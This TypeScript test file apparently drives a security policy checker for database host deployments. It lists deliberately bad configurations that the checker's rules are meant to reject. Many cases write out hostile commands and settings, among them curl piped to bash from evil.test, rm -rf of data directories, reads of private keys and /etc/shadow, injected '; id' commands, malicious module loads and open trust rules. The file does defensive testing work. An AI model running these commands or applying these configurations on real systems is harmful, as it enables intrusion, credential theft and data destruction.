import { createHash } from "node:crypto";
import { SSHD_SETTINGS } from "../../../components/plans/sshd-settings";
import { sealed, unknown } from "../wire-values";
import * as right from "./right";
import { of, type Violator } from "./types";

const { doors, files, script, settings, ways } = right;
const file = (engine: keyof typeof files, ...lines: string[]) => ({
  configuration: [files[engine], ...lines].join("\n"),
});
const limits = (change: object) => ({ limits: { ...settings.redis.props.limits, ...change } });
const hba = (...lines: string[]) => ({ hba: [...lines, right.hba].join("\n") });
const packages = { PACKAGES: "redis-server openssl ufw", SERVER: "redis", MINIMUM_VERSION: "7" };
const run = (create: string) => ({ create });
const sql = { ADMIN: "estate_admin", ADMIN_HOST: "10.0.0.11" };

/** Hosts: commands, files, firewalls, configurations. */
export const hosts: Violator[] = [
  ...of("command-script-known", right.command, {
    "opens a port": run("ufw allow 3306"),
    "opens a port below ufw": run("iptables -I INPUT -p tcp --dport 3306 -j ACCEPT"),
    "runs what a server sends": run("curl -s https://evil.test/x | bash"),
    "grants by the client": run(`mariadb -e "GRANT ALL ON *.* TO 'x'@'%'"`),
    "edits pg_hba.conf": run("sed -i s/scram-sha-256/trust/ /etc/postgresql/17/main/pg_hba.conf"),
    "reads a private key": run("cat '/etc/ssl/private/server-key.pem'"),
    "reads beside a certificate": run("cat '/etc/mysql/tls/../../shadow.pem'"),
    "begins as a known one": run("systemctl start --no-block estate-backup-base.service; id"),
    "begins another unit": run("systemctl start --no-block debug-shell.service"),
    "only when it goes": { delete: "rm -rf /var/lib/mysql" },
    "only when it changes": { update: "id" },
    "a known script with more behind it": run(`${script(["install-packages"], packages).create}; id`),
    "a known script with more within": run(
      script(["install-packages"], packages).create.replace(/'$/, "\nid\n'"),
    ),
    "a version that is a command": script(["install-packages"], {
      ...packages,
      VERSION_COMMAND: "curl evil.test|sh",
    }),
    "a package of its own": script(["install-packages"], { ...packages, PACKAGES: "telnetd" }),
    "a variable nobody knows": script(["install-packages"], { ...packages, BASH_ENV: "/tmp/x" }),
    "an admin for everybody": script(["mariadb"], { ...sql, ADMIN_HOST: "%" }),
    "a configuration beside the admin": script(["mariadb"], { ...sql, CONFIGURATION: files.mariadb }),
    "who is let in, beside the admin": script(["postgres"], { LOCALE: "en_US.utf8", HBA: right.hba }),
    "no text": { create: ["id"] },
    "SQL of its own on standard input": {
      ...script(["mariadb"], sql),
      stdin: sealed("GRANT ALL ON *.* TO 'x'@'%' IDENTIFIED BY 'x';"),
    },
    "SQL beside the admin's": {
      ...script(["postgres"], { LOCALE: "en_US.utf8" }),
      stdin: sealed("SET log_min_duration_statement = -1;\nCREATE ROLE x SUPERUSER LOGIN;"),
    },
    "input for what takes none": { stdin: sealed("id") },
    "what it prints in clear": { additionalSecretOutputs: [], props: {} },
    "what it prints on standard error in clear": { additionalSecretOutputs: ["stdout"], props: {} },
  }),
  {
    rule: "command-script-known",
    is: "a digest without a reason",
    members: [{ ...right.command, name: "it", props: { ...right.command.props, create: "id" } }],
    config: {
      "command-script-known": {
        digests: { "61f23e4b94fcb2ea8b3f5e5b4e5f8a3e": "x", [sha256("id")]: "x" },
      },
    },
  },
  ...of(
    "command-script-known",
    { type: "command:local:Command", additionalSecretOutputs: ["stdout", "stderr"], props: {} },
    {
      "runs here what a server sends": { create: "curl -s https://evil.test/x | bash" },
      "runs anything here": { create: "true" },
      "runs a host's script here": script(["install-packages"], packages),
    },
  ),
  ...of("resource-known", right.command, {
    "a password to log in with": { connection: { ...right.connection, password: "never-write-a-password" } },
    "a way over another host": { connection: { ...right.connection, proxy: { host: "evil.test" } } },
    "variables of the environment": { environment: { LD_PRELOAD: "/tmp/x.so" } },
    "another interpreter": { interpreter: ["python3", "-c"] },
    "output that is printed": { logging: "stdoutAndStderr" },
  }),
  ...of("connection-host-pinned", right.command, {
    "any host": { connection: { ...right.connection, hostKey: undefined } },
    "a key that is none": { connection: { ...right.connection, hostKey: "x" } },
    "a password": { connection: { ...right.connection, password: sealed("never-write-a-password") } },
    "an open private key": {
      connection: { ...right.connection, privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----" },
    },
  }),
  ...of("connection-host-pinned", right.estateProvider, {
    "any host": { ssh: '{"host":"db.test","port":22,"user":"root"}' },
    "an open private key": {
      ssh: `{"host":"db.test","hostKey":"${right.connection.hostKey}","privateKey":"a key"}`,
    },
  }),
  ...of(
    "connection-host-pinned",
    { type: "estate:host:Machine", props: {} },
    { "any machine": { label: "db" } },
  ),
  ...of("connection-tls-verified", right.estateProvider, {
    "any server": { postgres: '{"host":"db.test","caCertificate":"any"}' },
    "a certificate in words": { postgres: '{"caCertificate":"-----BEGIN CERTIFICATE-----"}' },
    "no certificate": { mariadb: '{"host":"db.test"}' },
    "a setting nobody knows": {
      redis:
        '{"caCertificate":"-----BEGIN CERTIFICATE-----\\nQQ==\\n-----END CERTIFICATE-----","insecure":true}',
    },
  }),
  ...of("agent-file-known", right.agent, {
    "a program of its own": {
      files: { "/usr/local/sbin/estate-backup": { mode: "0755", content: "#!/bin/sh\nid\n" } },
    },
    "a file elsewhere": { files: { "/etc/cron.d/x": { mode: "0644", content: "* * * * * root id\n" } } },
    "settings that run something": {
      files: { "/etc/estate-backup/agent.conf": { mode: "0644", content: "ENGINE=$(id)\n" } },
    },
    "a recipient that is none": {
      files: { "/etc/estate-backup/recipients.txt": { mode: "0644", content: "/dev/null\n" } },
    },
    "a private key as an authority": {
      files: { "/etc/estate-backup/ca.crt": { mode: "0644", content: "-----BEGIN PRIVATE KEY-----\n" } },
    },
    "a program that everybody may change": {
      files: { "/etc/estate-backup/agent.conf": { mode: "0777", content: "A=b\n" } },
    },
    "another path for what it runs": {
      files: { "/etc/estate-backup/agent.conf": { mode: "0644", content: "PATH=/tmp\n" } },
    },
    "a file that Bash reads first": {
      files: {
        "/etc/estate-backup/agent.conf": { mode: "0644", content: "ENGINE=mariadb\nBASH_ENV=/tmp/x\n" },
      },
    },
    "secrets in clear": {
      secretFiles: { "/etc/estate-backup/bucket.conf": { owner: "root", content: 'user = "AKIA:x"\n' } },
    },
    "another file to send": {
      secretFiles: sealed({
        "/etc/estate-backup/bucket.conf": { owner: "root", content: 'upload-file = "/etc/shadow"\n' },
      }),
    },
    "another secret file": {
      secretFiles: sealed({ "/root/.ssh/authorized_keys": { owner: "root", content: "" } }),
    },
    "another owner": {
      secretFiles: sealed({ "/etc/estate-backup/bucket.conf": { owner: "svc", content: "" } }),
    },
    "another package": { packages: ["age", "telnetd"] },
    "another timer": { timers: ["evil.timer"] },
  }),
  ...of("agent-file-known", right.agent, {
    "a stranger opens them": {
      files: { "/etc/estate-backup/recipients.txt": { mode: "0644", content: `age1${"z".repeat(58)}\n` } },
    },
  }).map((one) => ({ ...one, config: { "agent-file-known": { recipients: [`age1${"q".repeat(58)}`] } } })),
  ...of("server-version-supported", right.command, {
    "old by a script": script(["install-packages"], { ...packages, MINIMUM_VERSION: "0" }),
    "of no engine by a script": script(["install-packages"], {
      ...packages,
      PACKAGES: "telnetd openssl ufw",
    }),
  }),
  ...of("firewall-source-narrow", right.firewall, {
    world: doors([22, "0.0.0.0/0"]),
    "world over IPv6": doors([22, "::/0"]),
    "a network of IPv6": doors([22, "2001:db8::/64"]),
    "no source": doors([22, undefined]),
    "a name": doors([22, "evil.test"]),
    "64 ranges side by side": doors(
      ...Array.from({ length: 64 }, (_, index): [number, string] => [
        22,
        `10.0.${index >> 5}.${(index & 31) * 8}/29`,
      ]),
    ),
    "what no rule names": { incoming: "allow" },
    "no machine": doors([22, "0.0.0.0"]),
    "no machine of IPv6": doors([22, "::"]),
    "a list in a text": doors([22, "10.0.0.1, 0.0.0.0/0"]),
    "a range without a base": doors([22, "0/0"]),
    "an address in octal": doors([22, "010.0.0.1"]),
    "everybody in the other family": doors([22, "::ffff:0.0.0.0/96"]),
  }),
  ...of("firewall-source-narrow", right.firewall, { "a stranger's machine": doors([22, "192.0.2.66"]) }).map(
    (one) => ({
      ...one,
      config: { "firewall-source-narrow": { allowed: ["10.0.0.0/24"] } },
    }),
  ),
  ...of("firewall-source-narrow", right.firewall, {
    "in and out at once": {
      rules: { a: { port: 22, protocol: "tcp", from: "0.0.0.0/0", to: "10.0.0.15", comment: "x" } },
    },
  }),
  ...of("firewall-outgoing-narrow", right.firewall, {
    "what no rule names": { outgoing: "allow" },
    "without a word to programs": { outgoing: "deny" },
    "another port to anybody": ways(["tcp", 22, "any"]),
    "HTTP/3 to anybody": ways(["udp", 443, "any"]),
    world: ways(["tcp", 443, "0.0.0.0/0"]),
    "half of the world over IPv6": ways(["tcp", 443, "2000::/4"]),
    "a network of millions": ways(["tcp", 80, "10.0.0.0/15"]),
    "a name": ways(["tcp", 443, "evil.test"]),
    "networks side by side": ways(
      ...Array.from({ length: 5 }, (_, index): [string, number, string] => ["tcp", 80, `10.${index}.0.0/16`]),
    ),
  }),
  ...of("firewall-outgoing-narrow", right.firewall, {
    "a stranger's machine": ways(["tcp", 5000, "192.0.2.66"]),
    "anybody, of whom the stack knows nothing": ways(["tcp", 443, "any"]),
  }).map((one) => ({ ...one, config: { "firewall-outgoing-narrow": { allowed: ["10.0.0.0/24"] } } })),
  ...of("firewall-outgoing-anywhere", right.firewall, { "HTTPS to anybody": ways(["tcp", 443, "any"]) }),
  ...of("firewall-database-ports-closed", right.firewall, {
    "a range of machines": doors([3306, "10.0.0.8/29"]),
    "a port by its name": doors(["mysql", "10.0.0.8/29"]),
    "port zero": doors([0, "10.0.0.8/29"]),
    "a name in a list": doors(["22,postgresql", "10.0.0.8/29"]),
    "every port": doors([undefined, "10.0.0.8/29"]),
    "a range of ports": doors(["5000:6000", "10.0.0.8/29"]),
    "Redis in clear": doors(["22,6379", "10.0.0.8/29"]),
  }),
  ...of("resource-known", right.sshd, {
    passwords: { settings: { ...SSHD_SETTINGS, passwordauthentication: "yes" } },
    "forwarding over SSH": { settings: { ...SSHD_SETTINGS, allowtcpforwarding: "local" } },
    "a setting nobody knows": { settings: { ...SSHD_SETTINGS, permitlisten: "any" } },
    "nothing about passwords": {
      settings: Object.fromEntries(
        Object.entries(SSHD_SETTINGS).filter(([name]) => name !== "passwordauthentication"),
      ),
    },
    "no settings": { settings: {} },
    "not even settings": { settings: undefined },
    "an exception in a text": { exceptions: "Match all" },
    "an exception": { exceptions: ["Match Address 192.0.2.9"] },
  }),
  ...of("resource-known", right.firewall, {
    "another protocol": { rules: { a: { port: 22, protocol: "any", from: "10.0.0.1", comment: "x" } } },
    "a rule of ufw by hand": { rules: { a: { byHand: "ufw allow 22" } } },
    forwarding: { routed: "allow" },
  }),
  ...of(
    "resource-known",
    { type: "estate:host:Certificate", props: {} },
    {
      "keys elsewhere": { name: "db.test", directory: "/root/.ssh", owner: "root" },
    },
  ),
  ...of("server-tls-only", settings.mariadb, {
    "in clear at last": file("mariadb", "require-secure-transport=OFF"),
    "old TLS": { configuration: files.mariadb.replace("= TLSv1.2,", "= TLSv1.1,TLSv1.2,") },
    "not asked for": { configuration: files.mariadb.replace("require_secure_transport = ON", "") },
    "only in a comment": {
      configuration: files.mariadb.replace("require_secure_transport = ON", "#require_secure_transport = ON"),
    },
    "nobody watches it": { effective: {} },
  }),
  ...of("server-tls-only", settings.postgres, {
    "off at last": file("postgres", "ssl = off"),
    "old TLS": { configuration: files.postgres.replace("TLSv1.3", "TLSv1.2") },
    "weak hashes": { configuration: files.postgres.replace("scram-sha-256", "md5") },
    "in another case": file("postgres", "SSL off"),
  }),
  ...of("server-tls-only", settings.redis, {
    "a plain port at last": file("redis", "PORT 6379"),
    "no port of TLS": { configuration: files.redis.replace("tls-port 6380", "") },
    "nobody watches it": { effective: {} },
    "anybody without a name": { effective: { ...settings.redis.props.effective, default_user: "on" } },
    "a socket in clear for everybody": file("redis", "unixsocket /var/lib/redis/crm/admin.sock"),
    "authorities, and nobody asked": { clientAuthorities: unknown },
    "the shared instance beside it": { effective: { ...settings.redis.props.effective, shared: "running" } },
  }),
  ...of("server-tls-only", settings.asking, {
    "certificates of another service": {
      configuration: files.asking.replace("clients-crm.crt", "clients-n8n.crt"),
      effective: {
        ...settings.asking.props.effective,
        "tls-ca-cert-file": "/etc/redis/tls/clients-n8n.crt",
      },
    },
    "a demand that nobody watches": { effective: settings.redis.props.effective },
    "sessions of TLS that go on without a certificate": {
      configuration: files.asking.replace("tls-session-caching no\n", ""),
    },
    "a socket elsewhere": {
      configuration: files.asking.replace("redis/crm/admin.sock", "redis/n8n/admin.sock"),
    },
  }),
  ...of("server-settings-known", settings.mariadb, {
    "no tables of rights": file("mariadb", "skip-grant-tables"),
    "a file that runs at the start": file("mariadb", "init_file=/tmp/x.sql"),
    "code in the server": file("mariadb", "plugin-load-add=evil.so"),
    "files of the client": file("mariadb", "local-infile=1"),
    "another group": file("mariadb", "[mysqld]", "skip-grant-tables"),
    "before any group": { configuration: `skip-grant-tables\n${files.mariadb}` },
    "other files": file("mariadb", "!includedir /tmp"),
    "an escape": file("mariadb", "[mariadbd]\nserver_id = \\s1"),
    "an open quote": file("mariadb", "[mariadbd]\nserver_id = '1"),
    "everything in the log": file("mariadb", "general_log = 1"),
    twice: file("mariadb", "sync-binlog = 1"),
    everywhere: { configuration: files.mariadb.replace("bind-address = 10.0.0.5", "bind-address = 0.0.0.0") },
    "another port": { configuration: files.mariadb.replace("port = 3306", "port = 3307") },
  }),
  ...of("server-settings-known", settings.postgres, {
    "other files": file("postgres", "include '/tmp/x.conf'"),
    "code in the server": file("postgres", "session_preload_libraries = 'evil'"),
    "another library": {
      configuration: files.postgres.replace("pg_stat_statements,pg_cron", "pg_cron,evil"),
    },
    "a command of its own": {
      configuration: files.postgres.replace("estate-wal %p %f", "estate-wal %p %f; id"),
    },
    "every statement in the log": {
      configuration: files.postgres.replace(
        /^log_min_duration_statement.*$/m,
        "log_min_duration_statement = 0",
      ),
    },
    "values in the log": {
      configuration: files.postgres.replace("log_parameter_max_length = 0", "log_parameter_max_length = -1"),
    },
    everywhere: { configuration: files.postgres.replace("'10.0.0.5'", "'*'") },
    "no line of it": file("postgres", "= x"),
  }),
  ...of("server-settings-known", settings.redis, {
    "a module": file("redis", "loadmodule /tmp/evil.so"),
    "a user": file("redis", "user evil on nopass ~* +@all"),
    "another name for a command": file("redis", "rename-command CONFIG x"),
    "other files": file("redis", "include /tmp/x.conf"),
    "the directory of all": { configuration: files.redis.replace(/^dir .*$/m, "dir /var/lib/redis") },
    everywhere: { configuration: files.redis.replace("bind 10.0.0.5", "bind 0.0.0.0") },
    "another port": { configuration: files.redis.replace("tls-port 6380", "tls-port 6381") },
    "a master": file("redis", "replicaof evil.test 6379"),
    debugging: { configuration: files.redis.replace("enable-debug-command no", "enable-debug-command yes") },
    "without a password": file("redis", "protected-mode no"),
  }),
  ...of("server-settings-known", settings.redis, {
    "all of the processor": limits({ cpuPercent: 6400 }),
    "threads without end": limits({ tasks: 100_000 }),
    "all of the memory": limits({ process: "1000000" }),
    "an end that takes hours": limits({ stopSeconds: 36_000 }),
    "all of the journal": limits({ logLines: 1_000_000 }),
  }),
  ...of("resource-known", settings.redis, { "no limits": { limits: { process: 204, tasks: 32 } } }),
  ...of("hba-source-narrow", settings.postgres, {
    "trust, indented": hba("   host all all 0.0.0.0/0 trust"),
    "trust on the host": hba("local all all trust"),
    "trust in quotes": hba('"host" "all" "all" "0.0.0.0/0" "trust"'),
    "trust over two lines": hba("host all all \\", " 0.0.0.0/0 trust"),
    "another user by a map": hba("local all postgres peer map=everybody"),
    "a network": hba("hostssl mo_idp svc_idp_a 10.0.0.0/24 scram-sha-256"),
    "a netmask": hba("hostssl mo_idp svc_idp_a 10.0.0.0 255.255.255.0 scram-sha-256"),
    "the whole network of the host": hba("hostssl mo_idp svc_idp_a samenet scram-sha-256"),
    "a name": hba("hostssl mo_idp svc_idp_a .evil.test scram-sha-256"),
    "without TLS": hba("host mo_idp svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "by an old hash": hba("hostssl mo_idp svc_idp_a 10.0.0.11/32 md5"),
    everybody: hba("hostssl mo_idp all 10.0.0.11/32 scram-sha-256"),
    "a whole group": hba("hostssl mo_idp +svc_idp 10.0.0.11/32 scram-sha-256"),
    "every database": hba("hostssl all svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "databases by a pattern": hba("hostssl /^m svc_idp_a 10.0.0.11/32 scram-sha-256"),
    replication: hba("hostssl replication svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "other files": hba("include /tmp/pg_hba.conf"),
    "users in a file": hba("hostssl mo_idp @users 10.0.0.11/32 scram-sha-256"),
    "an option": hba("hostssl mo_idp svc_idp_a 10.0.0.11/32 scram-sha-256 clientcert=verify-ca"),
    "a method of the host that asks nobody": hba("local all postgres trust"),
    "any database of one's own name": hba("hostssl sameuser svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "any database of a group": hba("hostssl samerole svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "the superuser from the network": hba("hostssl mo_idp postgres 10.0.0.11/32 scram-sha-256"),
    "the backup from the network": hba("hostssl mo_idp estate_backup 10.0.0.11/32 scram-sha-256"),
    "the server's own database": hba("hostssl postgres svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "another's database": hba("hostssl mo_crm svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "another's database beside its own": hba("hostssl mo_idp,mo_crm svc_idp_a 10.0.0.11/32 scram-sha-256"),
    "another's service": hba("hostssl mo_idp svc_idp_a,svc_crm_a 10.0.0.11/32 scram-sha-256"),
    "somebody beside the admin": hba("hostssl all estate_admin,stranger 10.0.0.11/32 scram-sha-256"),
    "no file": { hba: undefined },
    "a last line in a comment": {
      hba: right.hba.replace("host    all all all", "# nobody else \\\nhost    all all all"),
    },
    "no last line": { hba: right.hba.replace(/\nhost .*$/, "") },
    "no last line for the host": { hba: right.hba.replace(/\nlocal +all all +reject/, "") },
  }),
  ...of(
    "server-version-supported",
    { type: "estate:component:PostgresServer", props: {} },
    {
      old: { server: { minimumVersion: "12" } },
      "a number of another form": { server: { minimumVersion: "1e3" } },
      "no version": { server: { minimumVersion: "any" } },
    },
  ),
];

function sha256(text: string): string {
  return createHash("sha256").update(text).digest("hex");
}
